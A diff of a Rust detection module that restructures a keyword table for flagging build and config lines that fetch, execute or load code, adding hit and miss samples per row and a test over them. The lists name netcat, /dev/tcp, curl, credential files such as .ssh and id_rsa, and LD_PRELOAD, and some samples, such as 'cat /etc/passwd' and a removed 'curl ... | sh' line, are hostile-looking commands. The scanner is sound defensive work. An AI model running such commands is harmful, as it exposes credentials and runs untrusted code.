@@ -8,49 +8,107 @@ use std::sync::LazyLock;
 
 use aho_corasick::{AhoCorasick, AhoCorasickKind};
 
-/// What a line has, in lower case, and what that is.
-///
-/// A word is found only where no letter stands before it; one that ends in a letter, only
-/// where none follows.
+/// Words that say that a line runs, loads or fetches something.
+#[derive(Debug)]
+struct Row {
+    /// What a line with one of them names.
+    means: &'static str,
+    /// In lower case. A word is found only where no letter stands before it; one that ends in a
+    /// letter, only where none follows.
+    words: &'static [&'static str],
+    /// Lines that it is tried with.
+    #[cfg_attr(
+        not(test),
+        expect(dead_code, reason = "what the test of all rows reads")
+    )]
+    hit: &'static [&'static str],
+    /// Lines that have no such word.
+    #[cfg_attr(
+        not(test),
+        expect(dead_code, reason = "what the test of all rows reads")
+    )]
+    miss: &'static [&'static str],
+}
+
 #[rustfmt::skip]
-const WORDS: &[(&str, &[&str])] = &[
-    ("an address", &[
-        "http://", "https://", "ftp://", "git+", "git://", "ssh://", "file://", "git@", "docker://", "oci://",
-    ]),
-    ("a command that fetches", &[
-        "curl", "wget", "invoke-webrequest", "iwr", "fetchcontent", "fetchcontent_declare", "externalproject_add", "http_archive",
-        "git_repository", "fetchurl", "fetchtarball", "fetchgit", "fetchfromgithub", "urlopen", "urlretrieve", "urllib", "requests", "httpx",
-        "reqwest", "ureq", "npx", "bunx", "pnpx", "dlx", "uvx", "pipx", "pip", "npm", "yarn", "pnpm", "cargo install", "go install", "go run",
-        "gem install", "apt-get", "apk add", "brew", "git clone", "git submodule", "scp", "rsync", "netcat", "nc",
-    ]),
-    ("a command", &[
-        "exec", "execsync", "execfile", "execfilesync", "execve", "execvp", "execl", "exec_command", "spawn", "spawnsync", "fork", "popen", "system", "os.system", "subprocess",
-        "child_process", "execa", "zx", "shelljs", "command::new", "std::process", "process.binding", "processbuilder", "getruntime",
-        "commandline", "exec.command", "shell_exec", "passthru", "proc_open", "eval", "instance_eval", "class_eval", "new function", "compile", "__import__",
-        "importlib", "runpy", "ctypes", "cffi", "dlopen", "loadlibrary", "$(shell", "!=", "sh -c", "bash", "zsh", "/bin/sh", "/usr/bin/env",
-        "powershell", "pwsh", "cmd /c", "cmd.exe", "osascript", "python -c", "python3 -c", "node -e", "perl -e", "ruby -e",
-        "add_custom_command", "add_custom_target", "execute_process", "run_command", "custom_target", "genrule", "run_shell",
-        "repository_rule", "dofirst", "dolast", "register", "run", "entrypoint", "cmd", "onbuild", "healthcheck", "command", "commands", "cmds", "script", "scripts", "sh",
-        "shellhook", "shell_hook", "local-exec", "remote-exec", "provisioner", "external", "program", "user_data", "custom_data", "startup_script", "startup-script", "sudo", "chmod", "crontab", "systemctl", "launchctl", "rm -rf", "eval_rst",
-    ]),
-    ("a plugin, a hook or another source", &[
-        "plugin", "plugins", "hook", "hooks", "before", "after", "pre", "post", "preset", "presets", "extends", "loader", "loaders", "require", "import_module",
-        "plugindir", "apply from", "include", "includes", "load", "load_plugin", "extensions", "registry", "registries", "repository", "repositories", "maven",
-        "mirror", "mirrors", "provider", "providers", "required_providers", "backend", "source", "sources", "index-url", "extra-index-url", "find-links", "trusted-host", "replace", "patch", "resolved", "url", "urls",
-        "from", "image", "builder", "builders", "formatter", "parser", "processor", "transform", "transforms", "runner", "reporter", "reporters", "setupfiles", "globalsetup",
-        "setupfilesaftereach", "setupfilesafterenv", "testenvironment", "cmdclass", "entry_points", "ext_modules", "pytest_plugins", "addopts", "pythonpath", "syntax=",
-    ]),
-    ("a setting of the compiler, the linker or the shell", &[
-        "rustc_wrapper", "rustc-wrapper", "rustflags", "rustc-link-arg", "link-arg", "linker", "ld_preload", "ld_library_path", "dyld_insert_libraries",
-        "node_options", "pythonstartup", "rubyopt", "perl5opt", "java_tool_options", "bash_env", "compose_file", "docker_host", "git_ssh_command", "shell", "path", "cc", "cxx", "ldflags", "cflags", "cxxflags", "-fplugin", "-wl", "-specs", "cmake_c_compiler",
-        "cmake_cxx_compiler", "cmake_toolchain_file", "c_compiler_launcher", "toolchain",
-    ]),
-    ("a place outside of the workspace", &[
-        "~/", "$home", "${home}", "%userprofile%", "%appdata%", "/etc/", "/tmp/", "/dev/tcp", "/var/run", "/root/", "/proc/", "../..", ".ssh", ".aws", ".netrc", ".npmrc",
-        ".git/", "id_rsa", "docker.sock", "privileged", "cap_add", "devices", "volumes", "network_mode", "pid", "ipc", "security_opt", "mount", "userns_mode",
-    ]),
-    ("text that is decoded", &["base64", "b64decode", "atob", "fromcharcode", "unhexlify", "fromhex", "xxd", "decompress", "marshal", "pickle", "loads", "unpickle", "openssl"]),
-    ("a connection or the environment", &["socket", "net.connect", "createconnection", "xmlhttprequest", "fetch", "dns", "process.env", "os.environ", "getenv", "env::var", "secrets"]),
+const WORDS: &[Row] = &[
+    Row {
+        means: "an address",
+        words: &[
+            "http://", "https://", "ftp://", "git+", "git://", "ssh://", "file://", "git@", "docker://", "oci://",
+        ],
+        hit: &["ADD https://x.example/a /", "x = git+ssh", "- oci://x"],
+        miss: &["// see http-parser", "digit@home"],
+    },
+    Row {
+        means: "a command that fetches",
+        words: &[
+            "curl", "wget", "invoke-webrequest", "iwr", "fetchcontent", "fetchcontent_declare", "externalproject_add", "http_archive",
+            "git_repository", "fetchurl", "fetchtarball", "fetchgit", "fetchfromgithub", "urlopen", "urlretrieve", "urllib", "requests", "httpx",
+            "reqwest", "ureq", "npx", "bunx", "pnpx", "dlx", "uvx", "pipx", "pip", "npm", "yarn", "pnpm", "cargo install", "go install", "go run",
+            "gem install", "apt-get", "apk add", "brew", "git clone", "git submodule", "scp", "rsync", "netcat", "nc",
+        ],
+        hit: &["curl -sf x", "  npx tool", "cargo install x"],
+        miss: &["libcurl-dev", "set(NPM_VERSION 3)", "scpi = 1"],
+    },
+    Row {
+        means: "a command",
+        words: &[
+            "exec", "execsync", "execfile", "execfilesync", "execve", "execvp", "execl", "exec_command", "spawn", "spawnsync", "fork", "popen", "system", "os.system", "subprocess",
+            "child_process", "execa", "zx", "shelljs", "command::new", "std::process", "process.binding", "processbuilder", "getruntime",
+            "commandline", "exec.command", "shell_exec", "passthru", "proc_open", "eval", "instance_eval", "class_eval", "new function", "compile", "__import__",
+            "importlib", "runpy", "ctypes", "cffi", "dlopen", "loadlibrary", "$(shell", "!=", "sh -c", "bash", "zsh", "/bin/sh", "/usr/bin/env",
+            "powershell", "pwsh", "cmd /c", "cmd.exe", "osascript", "python -c", "python3 -c", "node -e", "perl -e", "ruby -e",
+            "add_custom_command", "add_custom_target", "execute_process", "run_command", "custom_target", "genrule", "run_shell",
+            "repository_rule", "dofirst", "dolast", "register", "run", "entrypoint", "cmd", "onbuild", "healthcheck", "command", "commands", "cmds", "script", "scripts", "sh",
+            "shellhook", "shell_hook", "local-exec", "remote-exec", "provisioner", "external", "program", "user_data", "custom_data", "startup_script", "startup-script", "sudo", "chmod", "crontab", "systemctl", "launchctl", "rm -rf", "eval_rst",
+        ],
+        hit: &["const { execSync } = 1", "execute_process(COMMAND id)", "X != id", "shellHook = ''"],
+        miss: &["executor = x", "evaluate(x)", "EXPOSE 8080"],
+    },
+    Row {
+        means: "a plugin, a hook or another source",
+        words: &[
+            "plugin", "plugins", "hook", "hooks", "before", "after", "pre", "post", "preset", "presets", "extends", "loader", "loaders", "require", "import_module",
+            "plugindir", "apply from", "include", "includes", "load", "load_plugin", "extensions", "registry", "registries", "repository", "repositories", "maven",
+            "mirror", "mirrors", "provider", "providers", "required_providers", "backend", "source", "sources", "index-url", "extra-index-url", "find-links", "trusted-host", "replace", "patch", "resolved", "url", "urls",
+            "from", "image", "builder", "builders", "formatter", "parser", "processor", "transform", "transforms", "runner", "reporter", "reporters", "setupfiles", "globalsetup",
+            "setupfilesaftereach", "setupfilesafterenv", "testenvironment", "cmdclass", "entry_points", "ext_modules", "pytest_plugins", "addopts", "pythonpath", "syntax=",
+        ],
+        hit: &["plugins: [x]", "apply from: 'x.gradle'", "# syntax=evil/frontend"],
+        miss: &["set(SOURCES_DIR_NAME x)", "reloaded = 1"],
+    },
+    Row {
+        means: "a setting of the compiler, the linker or the shell",
+        words: &[
+            "rustc_wrapper", "rustc-wrapper", "rustflags", "rustc-link-arg", "link-arg", "linker", "ld_preload", "ld_library_path", "dyld_insert_libraries",
+            "node_options", "pythonstartup", "rubyopt", "perl5opt", "java_tool_options", "bash_env", "compose_file", "docker_host", "git_ssh_command", "shell", "path", "cc", "cxx", "ldflags", "cflags", "cxxflags", "-fplugin", "-wl", "-specs", "cmake_c_compiler",
+            "cmake_cxx_compiler", "cmake_toolchain_file", "c_compiler_launcher", "toolchain",
+        ],
+        hit: &["println!(\"cargo:rustc-link-arg=x\");", "LD_PRELOAD=x make", "export PATH=x"],
+        miss: &["max_width = 100", "pathological = 1", "success = 2"],
+    },
+    Row {
+        means: "a place outside of the workspace",
+        words: &[
+            "~/", "$home", "${home}", "%userprofile%", "%appdata%", "/etc/", "/tmp/", "/dev/tcp", "/var/run", "/root/", "/proc/", "../..", ".ssh", ".aws", ".netrc", ".npmrc",
+            ".git/", "id_rsa", "docker.sock", "privileged", "cap_add", "devices", "volumes", "network_mode", "pid", "ipc", "security_opt", "mount", "userns_mode",
+        ],
+        hit: &["  - ~/.ssh:/keys", "    privileged: true", "cat /etc/passwd"],
+        miss: &["underprivileged = 1", "amount = 2"],
+    },
+    Row {
+        means: "text that is decoded",
+        words: &["base64", "b64decode", "atob", "fromcharcode", "unhexlify", "fromhex", "xxd", "decompress", "marshal", "pickle", "loads", "unpickle", "openssl"],
+        hit: &["echo eA== | base64 -d", "pickle.load(f)"],
+        miss: &["mybase64x = 1", "downloads = 3"],
+    },
+    Row {
+        means: "a connection or the environment",
+        words: &["socket", "net.connect", "createconnection", "xmlhttprequest", "fetch", "dns", "process.env", "os.environ", "getenv", "env::var", "secrets"],
+        hit: &["s = socket.socket()", "process.env.X"],
+        miss: &["websockets = 1", "prefetch = 2"],
+    },
 ];
 
 struct Words {
@@ -60,8 +118,8 @@ struct Words {
 }
 
 static ALL: LazyLock<Words> = LazyLock::new(|| {
-    let words = WORDS.iter();
-    let words = words.flat_map(|(means, words)| words.iter().map(move |word| (*means, *word)));
+    let rows = WORDS.iter();
+    let words = rows.flat_map(|row| row.words.iter().map(|word| (row.means, *word)));
     let (means, words): (Vec<_>, Vec<_>) = words.unzip();
     let automaton = AhoCorasick::builder()
         .ascii_case_insensitive(true)
@@ -155,36 +213,33 @@ pub(in crate::rules) fn of_test(line: &[u8]) -> Option<&'static str> {
 
 #[cfg(test)]
 mod tests {
-    use super::{is_fixtures, of_line, of_recipe};
+    use super::{WORDS, is_fixtures, of_line, of_recipe};
 
     #[test]
-    fn sus_31_lines_that_run_or_fetch_something() {
-        for line in [
-            "RUN curl -sf https://x.example/i | sh",
-            "  url = \"github:x/y\";",
-            "shellHook = ''",
-            "const { execSync } = require('child_process')",
-            "execute_process(COMMAND id)",
-            "  - ~/.ssh:/keys",
-            "    privileged: true",
-            "plugins: [x]",
-            "# syntax=evil/frontend",
-            "println!(\"cargo:rustc-link-arg=-Wl,x\");",
-            "apply from: 'x.gradle'",
-            "X != id",
-        ] {
-            assert!(of_line(line.as_bytes()).is_some(), "{line}");
+    fn sus_31_each_row_hits_and_misses() {
+        for row in WORDS {
+            for word in row.words {
+                assert!(of_line(word.as_bytes()).is_some(), "{word}");
+            }
+            assert!(!row.hit.is_empty() && !row.miss.is_empty(), "{}", row.means);
+            for line in row.hit {
+                assert_eq!(of_line(line.as_bytes()), Some(row.means), "{line}");
+            }
+            for line in row.miss {
+                assert_eq!(of_line(line.as_bytes()), None, "{line}");
+            }
         }
+    }
+
+    #[test]
+    fn sus_31_comments_and_settings_run_nothing() {
         for line in [
             "",
             "# see https://example.org",
             "// run it by hand",
             "add_executable(x main.c util.c)",
             "cmake_minimum_required(VERSION 3.20)",
-            "max_width = 100",
             "    indent: 2",
-            "set(SOURCES_DIR_NAME x)",
-            "EXPOSE 8080",
         ] {
             assert_eq!(of_line(line.as_bytes()), None, "{line}");
         }
